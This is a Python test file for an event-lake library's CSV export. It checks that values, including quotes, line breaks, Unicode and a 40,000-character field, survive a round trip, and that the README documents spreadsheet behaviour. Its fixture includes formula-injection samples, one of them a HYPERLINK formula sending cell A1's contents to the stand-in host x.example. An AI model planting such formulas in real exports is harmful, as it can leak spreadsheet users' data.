"""Review 33: the CSV export as a spreadsheet meets it. The choice (README, export/run.py) is to
write values verbatim, as data for tools, and to document what Excel does with them: a value
starting with `=`, `+`, `-` or `@` is written as it is (a spreadsheet opening the file by
double-click may run it as a formula: import it as text), the file is UTF-8 without a BOM, and
a field longer than Excel's 32,767-character cell is written whole. What holds is checked by
reading the file back (Python's csv module and DuckDB's reader): quotes, commas and line
breaks inside a value, and every value, come back equal."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from export_support import SELECTION, row, shop_lake

from eventlake.api import EventLake
from eventlake.events.schema import EVENT_SCHEMA

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A2)"]
BIG = "x" * 40_000
"""Longer than an Excel cell (32,767 characters)."""


@pytest.fixture
def lake(mocked_aws: None, tmp_path: Path) -> EventLake:
    lake = shop_lake(tmp_path)
    rows = [row(11 + i, "odd", {"f": f}) | {"subject": f} for i, f in enumerate(FORMULAS)]
    rows.append(row(15, "odd", {"big": BIG, "nl": "a\r\nb", "q": 'say "hi", ok'})
                | {"subject": 'two\nlines, "quoted"', "source": "ünïcode ✓"})
    for r in rows:  # inside SELECTION (the shop lake's two days)
        r["timestamp"] = r["timestamp"].replace(day=2, hour=23)
    lake.cold.write(pa.Table.from_pylist(rows, schema=EVENT_SCHEMA), "sweep-odd")
    return lake


def test_values_are_written_verbatim_and_read_back_equal(lake: EventLake, tmp_path: Path
                                                         ) -> None:
    out = tmp_path / "day.csv"
    lake.export(SELECTION, out, format="csv")

    with out.open(newline="", encoding="utf-8") as f:
        got = {r["event_id"]: r for r in csv.DictReader(f)}
    assert [got[f"e-{11 + i:03d}"]["subject"] for i in range(len(FORMULAS))] == FORMULAS
    odd = got["e-015"]
    assert odd["subject"] == 'two\nlines, "quoted"' and odd["source"] == "ünïcode ✓"
    assert json.loads(odd["event_payload"]) == {"big": BIG, "nl": "a\r\nb",
                                                "q": 'say "hi", ok'}
    by_duckdb = duckdb.sql(f"SELECT subject FROM read_csv('{out}', all_varchar=true) "
                           "WHERE event_id = 'e-015'").fetchall()
    assert by_duckdb == [('two\nlines, "quoted"',)]


def test_the_file_is_utf8_without_a_bom_as_the_readme_says(lake: EventLake, tmp_path: Path
                                                           ) -> None:
    out = tmp_path / "day.csv"
    lake.export(SELECTION, out, format="csv")

    assert out.read_bytes().startswith(b"event_id,")
    readme = (Path(__file__).parents[2] / "README.md").read_text()
    assert "without a BOM" in readme and "32,767" in readme and "formula" in readme
